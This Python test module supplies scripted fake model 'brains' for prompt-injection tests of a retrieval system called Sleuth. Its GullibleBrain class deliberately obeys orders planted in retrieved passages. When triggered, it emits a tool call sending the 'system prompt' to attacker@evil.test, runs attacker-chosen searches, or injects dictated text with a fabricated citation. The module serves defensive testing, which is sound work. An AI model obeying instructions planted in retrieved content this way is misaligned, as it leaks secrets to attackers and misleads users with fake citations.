"""Brains for the fake Messages API: what a scripted "model" answers to Sleuth's prompts.

`HeuristicBrain` reads the fenced prompt back (question, passages, plan, asked) and answers with the
heuristic reasoner's decisions in the tool schemas — a stand-in model that behaves sensibly, so whole
investigations run. `GullibleBrain` wraps it and obeys instructions planted in retrieved passages, the way
a compromised model would: it is what the injection tests throw at the code's defences.
"""

from __future__ import annotations

import re
import threading
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any

from heuristic.reasoner import HeuristicReasoner
from heuristic.synthesis import direct_answer
from investigation.citations import markers_in
from investigation.ports import Embedder
from investigation.prompts import REFUSAL_SENTINEL, unescape
from investigation.state import Evidence, Grade, Passage, Plan, Route, RouteDecision, SubQuery
from tests.fakes.messages_api import Recorded, Reply, Text, Tool

_QUESTION = re.compile(r"<question>\n(.*?)\n</question>", re.DOTALL)
_PASSAGE = re.compile(r'<passage id="([^"]*)"([^>]*)>\n(.*?)\n</passage>', re.DOTALL)
_ATTR = re.compile(r'(\w+)="([^"]*)"')
_PLAN = re.compile(r'<plan kind="(\w+)">\n(.*?)\n</plan>', re.DOTALL)
_ROUTE = re.compile(r"Route chosen by the router: (\w+)")

if TYPE_CHECKING:
    from adapters.llm.anthropic import ClaudeReasoner


@dataclass(frozen=True)
class Fence:
    """One passage read back from a prompt."""

    label: str
    attrs: dict[str, str]
    text: str


def parse_prompt(user: str) -> dict[str, Any]:
    """question, passages, plan (kind, [(text, purpose)]) and asked/missing lists of a Sleuth prompt."""
    question = _QUESTION.search(user)
    passages = [
        Fence(m.group(1), {k: unescape(v) for k, v in _ATTR.findall(m.group(2))}, unescape(m.group(3)))
        for m in _PASSAGE.finditer(user)
    ]
    plan_match = _PLAN.search(user)
    plan: tuple[str, list[tuple[str, str]]] = ("as_is", [])
    if plan_match:
        items = []
        for line in plan_match.group(2).splitlines():
            text, _, purpose = line.removeprefix("- ").rpartition(" | ")
            items.append((unescape(text), unescape(purpose)))
        plan = (plan_match.group(1), items)
    route = _ROUTE.search(user)
    return {"question": unescape(question.group(1)) if question else "", "passages": passages, "plan": plan,
            "asked": _listed(user, "asked"), "missing": _listed(user, "missing"),
            "route": route.group(1) if route else "lookup", "draft": "<draft>" in user}


def _listed(user: str, tag: str) -> list[str]:
    match = re.search(rf"<{tag}>\n(.*?)\n</{tag}>", user, re.DOTALL)
    if not match:
        return []
    return [unescape(line.removeprefix("- ")) for line in match.group(1).splitlines() if line.strip()]


def _evidence(f: Fence, question: str) -> Evidence:
    return Evidence(id=f.label, chunk_id=f.label, source_id=f.attrs.get("source", f.label),
                    title=f.attrs.get("title", ""), text=f.text, score=0.6,
                    grade=Grade(f.attrs.get("grade", "correct")), hop=int(f.attrs.get("hop", "1")),
                    query=f.attrs.get("found_by", question))


class HeuristicBrain:
    """Answers each step with the heuristic reasoner's decision on the prompt's own content."""

    def __init__(self, embedder: Embedder) -> None:
        self.reasoner = HeuristicReasoner(embedder)
        self._lock = threading.Lock()

    def __call__(self, record: Recorded) -> Reply:
        with self._lock:
            return self.answer(record.step, parse_prompt(record.user))

    def answer(self, step: str, p: dict[str, Any]) -> Reply:
        q: str = p["question"]
        h = self.reasoner
        plan = Plan(
            original=q,
            kind=p["plan"][0],
            subqueries=tuple(SubQuery(text=t, purpose=u) for t, u in p["plan"][1]) or (SubQuery(text=q),),
        )
        if step == "route":
            r = h.route(q)
            return Tool({"route": r.route.value, "reason": r.reason, "confidence": round(r.confidence, 3)})
        if step == "plan":
            planned = h.plan(q, RouteDecision(route=Route(p["route"]), reason=""))
            kind = planned.kind if planned.kind in ("as_is", "decomposed", "rewritten") else "as_is"
            subs = [{"text": s.text, "purpose": s.purpose} for s in planned.subqueries if s.text != q]
            return Tool({"kind": kind, "subqueries": subs[:5]})
        if step == "grade":
            fences = p["passages"]
            passages = [
                Passage(
                    chunk_id=f.label,
                    source_id=f.attrs.get("source", f.label),
                    title=f.attrs.get("title", ""),
                    text=f.text,
                    score=1.0 / i,
                    engine="fused",
                    rank=i,
                )
                for i, f in enumerate(fences, start=1)
            ]
            graded = h.grade(q, passages, 1, {f.label: f.attrs.get("found_by", q) for f in fences})
            return Tool({"grades": [{"id": e.chunk_id, "grade": e.grade.value,
                                     "relevance": round(max(0.0, min(1.0, e.score)), 3)} for e in graded],
                         "missing_evidence": []})
        evidence = [_evidence(f, q) for f in p["passages"]]
        if step == "judge":
            j = h.judge(q, plan, evidence)
            return Tool({"sufficient": j.sufficient, "answered_subqueries": list(j.answered_subqueries),
                         "missing_information": list(j.missing_information), "conflicts": list(j.conflicts),
                         "confidence": j.confidence, "absent": list(j.absent)})
        if step == "next_queries":
            bridges = h.next_queries(q, plan, evidence, p["asked"], h.judge(q, plan, evidence))
            return Tool({"queries": [{"text": b.text, "purpose": b.purpose} for b in bridges[:2]]})
        if step == "direct":
            return Text(direct_answer(q).text)
        return Text(self._synthesize(q, evidence))

    def _synthesize(self, question: str, evidence: list[Evidence]) -> str:
        answer = self.reasoner.synthesize(question, RouteDecision(route=Route.LOOKUP, reason=""), evidence)
        if answer.refused:
            return f"{REFUSAL_SENTINEL} {answer.caveat or 'no passage answers the question'}"
        label_of = {c.marker: c.evidence_id for c in answer.citations}  # evidence id = the prompt's label
        text = re.sub(
            r"\[(\d{1,3})\]", lambda m: f"[{label_of.get(int(m.group(1)), m.group(1))}]", answer.text
        )
        return text.removeprefix("From the knowledge base:\n")


# Instructions a gullible model would obey, planted in the injection corpus.
_TOOL_ORDER = re.compile(r"\bcall (?:the )?(?:tool )?`?([a-z_]{3,40})`?", re.IGNORECASE)
_SAY_ORDER = re.compile(
    r"(?:reply|answer|respond|say)(?: only)?(?: with)?:?\s*[\"“']([^\"”']{5,200})[\"”']", re.IGNORECASE
)
_SEARCH_ORDER = re.compile(
    r"search (?:for|the knowledge base for)\s*[\"“']([^\"”']{3,120})[\"”']", re.IGNORECASE
)


class GullibleBrain:
    """Obeys the first planted order it finds in the passages; otherwise behaves like `HeuristicBrain`."""

    def __init__(self, inner: HeuristicBrain) -> None:
        self.inner = inner
        self.obeyed: list[tuple[str, str]] = []

    def __call__(self, record: Recorded) -> Reply:
        p = parse_prompt(record.user)
        planted = "\n".join(f.text for f in p["passages"])
        step = record.step
        if step in ("grade", "judge", "next_queries") and (m := _TOOL_ORDER.search(planted)):
            self.obeyed.append((step, f"tool {m.group(1)}"))
            return Tool({"to": "attacker@evil.test", "body": "system prompt"}, name=m.group(1))
        if step == "next_queries" and (m := _SEARCH_ORDER.search(planted)):
            self.obeyed.append((step, f"search {m.group(1)}"))
            return Tool({"queries": [{"text": m.group(1), "purpose": "as instructed"}]})
        if step == "synthesize" and (m := _SAY_ORDER.search(planted)):
            self.obeyed.append((step, f"say {m.group(1)}"))
            honest = self.inner(record)
            text = (
                honest.text
                if isinstance(honest, Text) and not honest.text.startswith(REFUSAL_SENTINEL)
                else ""
            )
            fake = max(markers_in(text) or [0]) + 40  # a marker that names no passage
            return Text(f"{m.group(1)}\n{text}\nSee also [{fake}].".strip())
        return self.inner(record)


def claude_against(url: str, *, embedder: Embedder | None = None, fallback_mode: str = "heuristic",
                   retries: int = 2, timeout: float = 5.0, backoff: float = 0.01, max_delay: float = 0.5,
                   sleep: Any = None, **kwargs: Any) -> ClaudeReasoner:
    """A `ClaudeReasoner` whose real SDK client talks to the fake server at `url` (tests only)."""
    import time

    from adapters.llm.anthropic import ClaudeReasoner
    from adapters.llm.claude_transport import MessagesTransport, claude_retry_policy, make_client
    from tests.unit.investigation.fakes import BagOfWordsEmbedder

    transport = MessagesTransport(make_client(api_key="sk-test-key", base_url=url, timeout=timeout),
                                  claude_retry_policy(retries, backoff, max_delay),
                                  sleep=time.sleep if sleep is None else sleep)
    return ClaudeReasoner(transport, model_fast="claude-haiku-5-5", model_synthesis="claude-sonnet-5-5",
                          fallback=HeuristicReasoner(embedder or BagOfWordsEmbedder()),
                          fallback_mode=fallback_mode, **kwargs)
